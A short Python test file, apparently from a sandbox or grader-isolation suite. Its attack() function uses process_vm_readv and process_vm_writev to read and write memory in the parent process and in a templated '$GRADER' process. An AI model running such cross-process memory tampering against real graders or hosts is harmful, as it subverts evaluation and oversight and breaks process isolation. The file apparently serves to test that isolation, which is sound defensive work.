"""Wants to read the parent where they were one process once, and write back what it read."""

import ctypes
import os


def attack():
    libc, flags = ctypes.CDLL(None), ctypes.c_ulong(0)
    copy = ctypes.create_string_buffer(8)
    ours = (ctypes.c_void_p * 2)(ctypes.addressof(copy), 8)
    theirs = (ctypes.c_void_p * 2)(id(None), 8)
    one = ctypes.c_ulong(1)
    for pid in (os.getppid(), int("$GRADER")):
        if libc.process_vm_readv(pid, ours, one, theirs, one, flags) == 8:
            wrote = libc.process_vm_writev(pid, ours, one, theirs, one, flags)
            return pid, copy.raw, wrote
